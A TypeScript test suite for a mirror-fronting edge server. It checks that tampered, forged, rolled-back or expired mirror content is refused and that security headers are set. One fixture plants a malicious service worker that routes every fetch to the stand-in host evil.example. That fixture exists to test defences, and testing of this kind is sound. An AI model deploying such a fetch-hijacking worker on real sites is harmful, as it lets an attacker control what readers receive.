// The edge over real loopback mirrors that fail in every way the issue lists. For each: the reader
// gets the verified bytes or the clear 503, never other bytes, and /_ferry/health says what happened.
import { afterEach, describe, expect, it } from 'vitest';
import { createHttpMirror } from '../../src/adapters/mirrors/http-mirror.ts';
import { createLimitedFetch } from '../../src/adapters/web/limited-fetch.ts';
import { createMemoryEdgeState } from '../../src/adapters/edge-state/memory-edge-state.ts';
import { createEdge, type EdgeEvent } from '../../src/edge/app.ts';
import { CONTENT_SECURITY_POLICY } from '../../src/edge/content-headers.ts';
import { WORKER_CSP } from '../../src/core/render-html.ts';
import type { EdgeStateStore } from '../../src/ports/edge-state.ts';
import { refusedUrl, startMirrorServer, type Fault, type MirrorServer } from '../helpers/fault-mirrors.ts';
import { makeSignedSnapshot, sampleFiles, testKeyPair } from '../helpers/signed-snapshot.ts';

const key = testKeyPair(1);
const otherKey = testKeyPair(2);
const NOW = new Date('2026-05-01T00:00:00Z');
const files = sampleFiles();
const mirrorsList = [
  { id: 'gh', kind: 'http', url: 'https://mirror-a.example.org/', priority: 1 },
  { id: 'tor', kind: 'http', url: 'http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion/', priority: 2 },
];
const snapshot = (version = 2, over: Record<string, string | Uint8Array> = {}, keyPair = key, expiresInMs = 86_400_000) =>
  makeSignedSnapshot(
    { ...files, ...over },
    { version, keyPair, now: NOW, expiresInMs, mirrors: mirrorsList, canonical: 'https://blog.example.org' },
  );
const v2 = snapshot();
const text = (path: string, map = v2): string => new TextDecoder().decode(map.get(path));

/** A hedge that gives the first mirror time to answer (or fail) before the next is asked, even on a busy machine. */
const HEAD_START = { initialMs: 300, minMs: 300, maxMs: 300 };

const servers: MirrorServer[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

async function serve(map: ReadonlyMap<string, Uint8Array>, fault: Fault = 'good', delayMs?: number): Promise<string> {
  const s = await startMirrorServer(map, { fault, ...(delayMs !== undefined ? { delayMs } : {}) });
  servers.push(s);
  return s.url;
}

function edgeOver(
  urls: string[],
  opts: {
    store?: EdgeStateStore;
    manifestTtlMs?: number;
    now?: () => Date;
    hedge?: { initialMs: number; minMs: number; maxMs: number };
  } = {},
) {
  const events: EdgeEvent[] = [];
  const fetch = createLimitedFetch();
  const mirrors = urls.map((url, i) => createHttpMirror({ id: `m${i + 1}`, kind: 'http', url, priority: i + 1 }, { fetch }));
  const edge = createEdge({
    mirrors,
    publicKey: key.publicKey,
    now: opts.now ?? (() => NOW),
    store: opts.store ?? createMemoryEdgeState(),
    hedge: opts.hedge ?? { initialMs: 30, minMs: 10, maxMs: 100 },
    timeouts: { requestMs: 300, fileDeadlineMs: 800, manifestDeadlineMs: 400, manifestGraceMs: 20 },
    manifestTtlMs: opts.manifestTtlMs ?? 60_000,
    onEvent: (e) => events.push(e),
  });
  const health = async () => {
    const res = await edge.app.request('/_ferry/health');
    const body: unknown = await res.json();
    return body as { manifest: { version: number } | null; mirrors: { id: string; state: string; lastError: string | null }[] };
  };
  const stateOf = async (id: string) => (await health()).mirrors.find((m) => m.id === id);
  return { edge, events, health, stateOf };
}

async function bodyOf(res: Response): Promise<string> {
  return new TextDecoder().decode(await res.arrayBuffer());
}

describe('edge over fault mirrors (faulty mirror first, a good one second)', () => {
  const cases: { fault: Fault | 'refused'; state: RegExp; error: RegExp }[] = [
    { fault: 'refused', state: /degraded|unreachable/, error: /cannot connect/ },
    { fault: 'hang', state: /degraded|unreachable/, error: /within|deadline/ },
    { fault: 'error500', state: /degraded/, error: /HTTP 500/ },
    { fault: 'tamper', state: /compromised/, error: /does not match the manifest/ },
    { fault: 'truncate', state: /degraded|unreachable/, error: /cannot connect|terminated|other side closed/ },
    // A size that differs from the signed one is an integrity failure, like a wrong hash.
    { fault: 'oversize', state: /compromised/, error: /bigger than the \d+ bytes the manifest signs/ },
    { fault: 'inject', state: /compromised/, error: /bigger than the \d+ bytes the manifest signs/ },
    { fault: 'short', state: /compromised/, error: /does not match the manifest/ },
    // An error page bigger than the file is an error, not the file.
    { fault: 'bigerror', state: /degraded/, error: /HTTP 503/ },
  ];
  for (const c of cases) {
    it(`${c.fault}: serves the verified bytes and reports the mirror`, async () => {
      const bad = c.fault === 'refused' ? await refusedUrl() : await serve(v2, c.fault);
      const good = await serve(v2);
      // The faulty mirror answers (or fails) before the good one is asked, so what it did is always seen.
      const { edge, stateOf } = edgeOver([bad, good], { hedge: HEAD_START });
      for (const path of ['/2016/06/27th-anniversary.html', '/media/protest-1.png', '/rss.xml']) {
        const res = await edge.app.request(path);
        expect(res.status).toBe(200);
        expect(new Uint8Array(await res.arrayBuffer())).toEqual(v2.get(path));
      }
      const m1 = await stateOf('m1');
      expect(m1?.state).toMatch(c.state);
      expect(m1?.lastError ?? '').toMatch(c.error);
      expect((await stateOf('m2'))?.state).toBe('healthy');
    });

    it(`${c.fault} alone: a clear 503, never other bytes`, async () => {
      const bad = c.fault === 'refused' ? await refusedUrl() : await serve(v2, c.fault);
      const { edge, stateOf } = edgeOver([bad]);
      const res = await edge.app.request('/2016/06/27th-anniversary.html');
      const body = await bodyOf(res);
      expect(res.status).toBe(503);
      expect(body).toContain('暂时无法访问');
      expect(body).toContain('Temporarily unavailable');
      expect(body).toContain('href="/mirrors.html"');
      expect(body).not.toContain('evil()');
      expect(res.headers.get('cache-control')).toBe('no-store');
      expect((await stateOf('m1'))?.state).toMatch(c.state);
    });
  }

  it('slow mirror: still served (verified) when it is the only one; a faster one wins the hedge', async () => {
    const slow = await serve(v2, 'slow', 120);
    const alone = edgeOver([slow]);
    const res = await alone.edge.app.request('/index.html');
    expect(res.status).toBe(200);
    expect(await bodyOf(res)).toBe(text('/index.html'));
    expect((await alone.stateOf('m1'))?.state).toBe('healthy');

    const good = await serve(v2);
    const both = edgeOver([slow, good]);
    const t0 = performance.now();
    const res2 = await both.edge.app.request('/rss.xml');
    expect(await bodyOf(res2)).toBe(text('/rss.xml'));
    expect(performance.now() - t0).toBeLessThan(400);
  });

  it('a manifest signed by another key: that mirror is compromised, the good one serves', async () => {
    const forged = snapshot(9, { '/index.html': '<p>forged</p>' }, otherKey);
    const bad = await serve(forged);
    const good = await serve(v2);
    const { edge, stateOf, health, events } = edgeOver([bad, good]);
    const res = await edge.app.request('/');
    expect(await bodyOf(res)).toBe(text('/index.html'));
    expect((await health()).manifest?.version).toBe(2);
    const m1 = await stateOf('m1');
    expect(m1?.state).toBe('compromised');
    // (Asked last from then on, it may be asked for a file too, if the good one is slow: that fails as well.)
    expect(
      events.some((e) => e.type === 'manifest-rejected' && e.mirror === 'm1' && /does not verify with the pinned public key/.test(e.error)),
    ).toBe(true);

    const alone = edgeOver([await serve(forged)]);
    expect((await alone.edge.app.request('/')).status).toBe(503);
  });

  it('an older manifest (rollback) is refused once a newer one was accepted', async () => {
    const v1 = snapshot(1, { '/index.html': '<p>old version</p>' });
    const store = createMemoryEdgeState();
    const first = edgeOver([await serve(v2)], { store });
    expect((await first.edge.app.request('/')).status).toBe(200);

    // Restart with the same state: only the old mirror is left.
    const old = await serve(v1);
    const second = edgeOver([old], { store });
    const res = await second.edge.app.request('/');
    // The old mirror's index.html is not served; the copy verified before the restart is.
    expect(await bodyOf(res)).toBe(text('/index.html'));
    expect((await second.health()).manifest?.version).toBe(2);
    const m1 = await second.stateOf('m1');
    expect(m1?.state).toBe('degraded');
    expect(m1?.lastError).toMatch(/rollback|outdated/);

    // An outdated mirror next to a current one: not compromised, and never its bytes. Its manifest
    // answers slowly, so the current mirror wins the race while the outdated one is being rechecked:
    // a recheck cut short by the race is no evidence, and it is not cut short (its verdict counts).
    const slowManifest = await startMirrorServer(v1, { delayFor: (p) => (p.startsWith('/manifest') ? 150 : 0) });
    servers.push(slowManifest);
    const mixed = edgeOver([slowManifest.url, await serve(v2)]);
    const r = await mixed.edge.app.request('/');
    expect(await bodyOf(r)).toBe(text('/index.html'));
    let outdated = await mixed.stateOf('m1');
    for (let i = 0; i < 40 && !/outdated/.test(outdated?.lastError ?? ''); i++) {
      expect(outdated?.state).not.toBe('compromised');
      await new Promise((resolve) => setTimeout(resolve, 50));
      outdated = await mixed.stateOf('m1');
    }
    expect(outdated?.state).toBe('degraded');
    expect(outdated?.lastError).toMatch(/serves manifest version 1, not version 2 \(outdated\)/);
  });

  it('an expired manifest (freeze) is refused', async () => {
    const frozen = snapshot(3, {}, key, -1000);
    const { edge, stateOf } = edgeOver([await serve(frozen)]);
    expect((await edge.app.request('/')).status).toBe(503);
    expect((await stateOf('m1'))?.lastError).toMatch(/expired.*freeze refused/);
  });
});

describe('edge: versions, stale copies and state', () => {
  it('picks up a new manifest without a restart, and serves the last verified copy as stale when none can deliver', async () => {
    const server = await startMirrorServer(v2);
    servers.push(server);
    const { edge, events } = edgeOver([server.url], { manifestTtlMs: 0 });
    const first = await edge.app.request('/index.html');
    expect(await bodyOf(first)).toBe(text('/index.html'));

    const v3 = snapshot(3, { '/index.html': '<p>version three</p>'.repeat(5) });
    server.setSnapshot(v3);
    await edge.reader.refresh();
    expect(await bodyOf(await edge.app.request('/index.html'))).toBe(text('/index.html', v3));

    const v4 = snapshot(4, { '/index.html': '<p>version four</p>'.repeat(5) });
    server.setSnapshot(v4);
    server.setFault('truncate');
    await edge.reader.refresh();
    const stale = await edge.app.request('/index.html');
    expect(stale.status).toBe(200);
    expect(stale.headers.get('x-ferry-stale')).toBe('1');
    expect(stale.headers.get('warning')).toContain('110');
    expect(await bodyOf(stale)).toBe(text('/index.html', v3));
    expect(events.some((e) => e.type === 'served-stale')).toBe(true);
  });

  it('after a restart with every mirror down, serves verified copies from the state store', async () => {
    const store = createMemoryEdgeState();
    const server = await startMirrorServer(v2);
    servers.push(server);
    const first = edgeOver([server.url], { store });
    expect((await first.edge.app.request('/rss.xml')).status).toBe(200);
    await new Promise((r) => setTimeout(r, 20));
    server.setFault('error500');
    const second = edgeOver([server.url], { store });
    const res = await second.edge.app.request('/rss.xml');
    expect(res.status).toBe(200);
    expect(res.headers.get('x-ferry-stale')).toBeNull();
    expect(await bodyOf(res)).toBe(text('/rss.xml'));
    expect((await second.edge.app.request('/index.html')).status).toBe(503);
  });

  it('a mirror mid-publish (newer signed manifest) is adopted, not called compromised', async () => {
    const server = await startMirrorServer(v2);
    servers.push(server);
    const { edge, stateOf, health } = edgeOver([server.url]);
    expect((await edge.app.request('/')).status).toBe(200);
    const v5 = snapshot(5, { '/2016/06/27th-anniversary.html': '<p>updated post</p>' });
    server.setSnapshot(v5);
    const res = await edge.app.request('/2016/06/27th-anniversary.html');
    expect(await bodyOf(res)).toBe('<p>updated post</p>');
    expect((await stateOf('m1'))?.state).toBe('healthy');
    expect((await health()).manifest?.version).toBe(5);
  });
});

describe('edge: responses', () => {
  it('serves the readers’ service worker with its own policy (it may fetch, and run no other code), CORS, and no-cache', async () => {
    const withWorker = snapshot(2, { '/sw.js': 'const FERRY_PUBLIC_KEY="";self.addEventListener("fetch",()=>{});' });
    const { edge } = edgeOver([await serve(withWorker)]);
    const res = await edge.app.request('/sw.js');
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(text('/sw.js', withWorker));
    expect(res.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(res.headers.get('content-security-policy')).toBe(WORKER_CSP);
    expect(res.headers.get('cache-control')).toBe('no-cache');
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    // Served only as signed: a mirror with another sw.js is not believed.
    const planted = new Map(withWorker);
    planted.set('/sw.js', new TextEncoder().encode('self.addEventListener("fetch",e=>e.respondWith(fetch("https://evil.example/")));'));
    const { edge: other } = edgeOver([await serve(planted), await serve(withWorker)]);
    expect(await (await other.app.request('/sw.js')).text()).toBe(text('/sw.js', withWorker));
  });

  it('sets ETag, 304, cache policy, security headers, canonical and onion links, compression', async () => {
    const { edge } = edgeOver([await serve(v2)]);
    const res = await edge.app.request('/2016/06/');
    expect(res.status).toBe(200);
    expect(await bodyOf(res)).toBe(text('/2016/06/index.html'));
    const sha = /"([0-9a-f]{64})"/.exec(res.headers.get('etag') ?? '')?.[1];
    expect(sha).toMatch(/^[0-9a-f]{64}$/);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(res.headers.get('cache-control')).toContain('stale-while-revalidate');
    // No script but the service worker's registration, allowed by its hash; no frames.
    expect(res.headers.get('content-security-policy')).toBe(CONTENT_SECURITY_POLICY);
    expect(CONTENT_SECURITY_POLICY).toMatch(/script-src 'sha256-[A-Za-z0-9+/]{43}='; worker-src 'self';.*frame-ancestors 'none'$/);
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('link')).toBe('<https://blog.example.org/2016/06/>; rel="canonical"');
    expect(res.headers.get('onion-location')).toBe('http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion/2016/06/');

    const again = await edge.app.request('/2016/06/', { headers: { 'if-none-match': `"${sha ?? ''}"` } });
    expect(again.status).toBe(304);

    const media = await edge.app.request('/media/protest-1.png');
    expect(media.headers.get('content-type')).toBe('image/png');
    expect(media.headers.get('cache-control')).toContain('immutable');
    const rss = await edge.app.request('/rss.xml', { headers: { 'accept-encoding': 'gzip, deflate' } });
    expect(rss.headers.get('content-type')).toBe('application/rss+xml; charset=utf-8');
    expect(rss.headers.get('content-encoding')).toBe('gzip');
    const unzipped = await new Response(rss.body?.pipeThrough(new DecompressionStream('gzip'))).text();
    expect(unzipped).toBe(text('/rss.xml'));
  });

  it('unknown paths get the snapshot 404 page; directories redirect only on the same host', async () => {
    const { edge } = edgeOver([await serve(v2)]);
    const res = await edge.app.request('/no/such/page.html');
    expect(res.status).toBe(404);
    expect(await bodyOf(res)).toBe(text('/404.html'));
    const dir = await edge.app.request('/2016/06');
    expect(dir.status).toBe(301);
    expect(dir.headers.get('location')).toBe('/2016/06/');
    expect((await edge.app.request('/', { method: 'POST' })).status).toBe(405);
  });

  it('/_ferry/mirrors gives the signed mirror list', async () => {
    const { edge } = edgeOver([await serve(v2)]);
    const res = await edge.app.request('/_ferry/mirrors');
    const body: unknown = await res.json();
    expect(body).toMatchObject({ mirrors: mirrorsList, manifest: text('/manifest.json'), signature: text('/manifest.json.sig').trim() });
  });
});

describe('a mirror updated in place, caught between its first new file and its new manifest', () => {
  const v3 = snapshot(3, { '/index.html': '<h1>version three</h1>' });
  // What the mirror holds mid-publish: v2's manifest, v3's announced manifest, v3's new index.html.
  const torn = (announce: boolean): Map<string, Uint8Array> => {
    const m = new Map(v2);
    const index = v3.get('/index.html');
    if (index !== undefined) m.set('/index.html', index);
    if (announce) {
      for (const [from, to] of [
        ['/manifest.json', '/manifest.next.json'],
        ['/manifest.json.sig', '/manifest.next.json.sig'],
      ] as const) {
        const bytes = v3.get(from);
        if (bytes !== undefined) m.set(to, bytes);
      }
    }
    return m;
  };

  it('is publishing, not compromised, when it announced the manifest the new bytes belong to', async () => {
    const { edge, stateOf } = edgeOver([await serve(torn(true)), await serve(v2)], { hedge: HEAD_START });
    const res = await edge.app.request('/');
    expect(res.status).toBe(200);
    expect(await bodyOf(res)).toBe(text('/index.html'));
    const m1 = await stateOf('m1');
    expect(m1?.state).not.toBe('compromised');
    expect(m1?.lastError).toMatch(/publishing version 3/);
  });

  it('is compromised when the bytes match no manifest it announced', async () => {
    const { edge, stateOf } = edgeOver([await serve(torn(false)), await serve(v2)], { hedge: HEAD_START });
    expect((await edge.app.request('/')).status).toBe(200);
    expect((await stateOf('m1'))?.state).toBe('compromised');
  });
});
